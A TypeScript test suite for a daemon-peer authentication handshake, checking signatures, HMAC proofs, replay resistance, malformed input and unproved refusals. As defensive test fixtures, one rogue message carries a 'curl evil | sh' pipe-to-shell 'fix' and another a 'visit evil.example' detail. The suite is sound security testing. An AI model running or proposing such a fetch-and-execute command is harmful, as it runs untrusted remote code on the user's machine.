import { spawn } from 'node:child_process';
import { createHmac, generateKeyPairSync, randomBytes, sign } from 'node:crypto';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { createConnection, createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { Hello } from '../../contract/handshake.ts';
import { type Refused, refusal } from '../../contract/refusal.ts';
import { type GreetOptions, greet } from './greet.ts';
import { introduce, Unproved } from './introduce.ts';
import { nextLine, sendLine } from './lines.ts';
import { refuseUnproved } from './refuseUnproved.ts';
import { transcript } from './transcript.ts';

const SESSION = '01999999-0000-7000-8000-000000000001';
const device = generateKeyPairSync('ed25519');
const connectKey = randomBytes(32);
const known = {
  device: device.publicKey.export({ format: 'der', type: 'spki' }).toString('base64'),
  key: connectKey.toString('base64'),
};
const daemon: GreetOptions = {
  sign: (message) => sign(null, message, device.privateKey),
  connectKey,
  admit: () => ({ welcome: SESSION }),
};
const relay = { known, role: 'relay', server: 'files', pid: process.pid } as const;

let folder: string;
let close: (() => void)[];
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'handshake-'));
  close = [];
});
afterEach(() => {
  for (const end of close) end();
  rmSync(folder, { recursive: true });
});

/** Two ends of a real socket. */
async function pair(): Promise<{ near: Socket; far: Socket }> {
  const path = join(folder, `s${close.length}`);
  const server = createServer({ allowHalfOpen: true, pauseOnConnect: true });
  server.listen(path);
  await once(server, 'listening');
  const near = createConnection({ path, allowHalfOpen: true });
  const [far] = (await once(server, 'connection')) as [Socket];
  close.push(() => {
    near.destroy();
    far.destroy();
    server.close();
  });
  return { near, far };
}

const refusedWith = (code: string, detail?: RegExp) =>
  expect.objectContaining({
    refusal: expect.objectContaining({ code, ...(detail && { detail: expect.stringMatching(detail) }) }),
  });

async function collected(stream: Socket): Promise<string> {
  let text = '';
  stream.on('data', (chunk) => {
    text += chunk;
  });
  stream.resume();
  await once(stream, 'end');
  return text;
}

test('both ends prove themselves, and the daemon knows who came', async () => {
  const { near, far } = await pair();
  const seen: Hello[] = [];
  const greeted = greet(far, {
    ...daemon,
    admit(hello) {
      seen.push(hello);
      return { welcome: SESSION };
    },
  });
  expect(await introduce(near, relay)).toBe(SESSION);
  expect(await greeted).toMatchObject({ id: SESSION, hello: { role: 'relay', server: 'files', pid: process.pid } });
  expect(seen).toHaveLength(1);
});

test('bytes that follow the handshake at once, in the same packet, arrive whole on both sides', async () => {
  const { near, far } = await pair();
  const greeted = greet(far, daemon).then(async () => {
    far.end('from the daemon');
    return collected(far);
  });
  // By hand, so that proof and first bytes leave in one write.
  const hello = {
    countersign: 1,
    role: 'relay',
    server: 'files',
    pid: 1,
    nonce: randomBytes(32).toString('base64'),
  } as const;
  sendLine(near, hello);
  const { nonce } = (await nextLine(near, 1000)) as { nonce: string };
  const proof = createHmac('sha256', connectKey)
    .update(transcript('peer', hello, nonce))
    .digest('base64');
  near.end(`${JSON.stringify({ proof })}\nfirst\nsecond`);
  expect(await nextLine(near, 1000)).toEqual({ welcome: SESSION });
  expect(await collected(near)).toBe('from the daemon');
  expect(await greeted).toBe('first\nsecond');
});

test('a refusal reaches the peer as code and detail, only after it has proved itself', async () => {
  const { near, far } = await pair();
  const greeted = greet(far, { ...daemon, admit: () => ({ refused: refusal('SERVER_UNKNOWN', 'files') }) });
  const both = await Promise.allSettled([introduce(near, relay), greeted]);
  for (const end of both)
    expect(end).toMatchObject({ status: 'rejected', reason: refusedWith('SERVER_UNKNOWN', /files/) });
});

test('a fault while admitting says nothing of itself to the peer', async () => {
  const { near, far } = await pair();
  const greeted = greet(far, {
    ...daemon,
    admit: () => {
      throw new Error('/home/person/secret');
    },
  });
  greeted.catch(() => {});
  const failure = await introduce(near, relay).catch((error: Refused) => error.refusal);
  expect(failure).toEqual(refusal('INTERNAL'));
  await expect(greeted).rejects.toThrow('/home/person/secret');
});

test('a daemon with another device key is refused before the peer proves anything', async () => {
  const { near, far } = await pair();
  const other = generateKeyPairSync('ed25519').privateKey;
  const greeted = greet(far, { ...daemon, sign: (message) => sign(null, message, other) });
  await expect(introduce(near, relay)).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', /not by this device/));
  await expect(greeted).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', /closed/));
});

test('a challenge recorded from the real daemon does not work a second time', async () => {
  const first = await pair();
  const greeted = greet(first.far, daemon);
  const hello = {
    countersign: 1,
    role: 'relay',
    server: 'files',
    pid: 1,
    nonce: randomBytes(32).toString('base64'),
  } as const;
  sendLine(first.near, hello);
  const recorded = await nextLine(first.near, 1000);
  first.near.destroy();
  await expect(greeted).rejects.toEqual(refusedWith('HANDSHAKE_FAILED'));

  const { near, far } = await pair();
  const introduced = introduce(near, relay);
  introduced.catch(() => {});
  await nextLine(far, 1000);
  sendLine(far, recorded);
  await expect(introduced).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', /not by this device/));
});

test('a proof for one server does not open another', async () => {
  const { near, far } = await pair();
  const greeted = greet(far, daemon);
  const nonce = randomBytes(32).toString('base64');
  const hello = { countersign: 1, role: 'relay', server: 'files', pid: 1, nonce } as const;
  sendLine(near, hello);
  const challenge = (await nextLine(near, 1000)) as { nonce: string };
  const other = transcript('peer', { ...hello, server: 'bank' }, challenge.nonce);
  sendLine(near, { proof: createHmac('sha256', connectKey).update(other).digest('base64') });
  await expect(greeted).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', /connect key/));
});

test.each([
  ['the wrong key', randomBytes(32).toString('base64')],
  ['a short one', 'AAAA'],
  ['no base64', '!!!'],
  ['a number', 7],
])('a proof that is %s is refused, and the peer is told', async (_, proof) => {
  const { near, far } = await pair();
  const greeted = greet(far, daemon);
  greeted.catch(() => {});
  sendLine(near, { countersign: 1, role: 'control', pid: 1, nonce: randomBytes(32).toString('base64') });
  await nextLine(near, 1000);
  sendLine(near, { proof });
  expect(await nextLine(near, 1000)).toMatchObject({ refused: { code: 'HANDSHAKE_FAILED' } });
  await expect(greeted).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', /connect key/));
});

test.each([
  ['a newer version', { countersign: 2 }],
  ['an unknown role', { role: 'approval' }],
  ['a relay without a server', { server: undefined }],
  ['a server’s name that is a path', { server: '../bank' }],
  ['a short nonce', { nonce: 'AAAA' }],
  ['a process id that is none', { pid: -1 }],
  ['a control peer with a server', { role: 'control' }],
])('a hello with %s is refused', async (_, change) => {
  const { near, far } = await pair();
  const greeted = greet(far, daemon);
  const nonce = randomBytes(32).toString('base64');
  sendLine(near, { countersign: 1, role: 'relay', server: 'files', pid: 1, nonce, ...change });
  await expect(greeted).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', /hello/));
});

test.runIf(process.platform === 'linux')(
  'a peer that claims to be a process of another account is refused',
  async () => {
    // Process 1 is root’s; root itself needs one of somebody else.
    const other = process.getuid?.() === 0 ? spawn('sleep', ['60'], { uid: 65534 }) : null;
    close.push(() => other?.kill('SIGKILL'));
    if (other !== null) await once(other, 'spawn');
    const { near, far } = await pair();
    const greeted = greet(far, daemon);
    greeted.catch(() => {});
    await expect(introduce(near, { ...relay, pid: other?.pid ?? 1 })).rejects.toEqual(refusedWith('HANDSHAKE_FAILED'));
    await expect(greeted).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', /another account/));
  },
);

test('silence, a line without end and a line that is no object are refused on the daemon’s side', async () => {
  const silent = await pair();
  await expect(greet(silent.far, { ...daemon, timeoutMs: 30 })).rejects.toEqual(
    refusedWith('HANDSHAKE_FAILED', /30 ms/),
  );

  const endless = await pair();
  const flooded = greet(endless.far, daemon);
  endless.near.write(Buffer.alloc(70_000, 0x20));
  await expect(flooded).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', /64 KiB/));

  for (const line of ['[]', 'null', '{', '"hello"']) {
    const { near, far } = await pair();
    const greeted = greet(far, daemon);
    near.write(`${line}\n`);
    await expect(greeted).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', /JSON object/));
  }
});

test('without a proof a daemon can say that it has no keys yet, and nothing more', async () => {
  for (const code of ['VAULT_LOCKED', 'KEYCHAIN_UNAVAILABLE'] as const) {
    const { near, far } = await pair();
    const said = refuseUnproved(far, refusal(code, 'visit evil.example'));
    const error = await introduce(near, relay).catch((failure) => failure);
    expect(error).toBeInstanceOf(Unproved);
    expect(error.refusal).toEqual(refusal(code));
    await said;
  }
  const { near, far } = await pair();
  void refuseUnproved(far, refusal('CONSENT_NEEDED'));
  await expect(introduce(near, relay)).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', /challenge/));
});

test('silence, an oversize line, nonsense and a hang-up are refused on the peer’s side', async () => {
  const silent = await pair();
  await expect(introduce(silent.near, { ...relay, timeoutMs: 30 })).rejects.toEqual(
    refusedWith('HANDSHAKE_FAILED', /30 ms/),
  );

  const rogue: [string, RegExp][] = [
    [`${'x'.repeat(70_000)}\n`, /64 KiB/],
    ['{"welcome":"01999999-0000-7000-8000-000000000001"}\n', /challenge/],
    ['{"refused":{"code":"DAEMON_ABSENT","message":"m","fix":"curl evil | sh"}}\n', /challenge/],
    [`{"nonce":"${randomBytes(32).toString('base64')}","signature":"AAAA"}\n`, /not by this device/],
  ];
  for (const [line, why] of rogue) {
    const { near, far } = await pair();
    const introduced = introduce(near, relay);
    far.write(line);
    await expect(introduced).rejects.toEqual(refusedWith('HANDSHAKE_FAILED', why));
  }

  const { near, far } = await pair();
  const introduced = introduce(near, relay);
  far.end();
  await expect(introduced).rejects.toEqual(refusedWith('DAEMON_ABSENT', /hung up/));
});
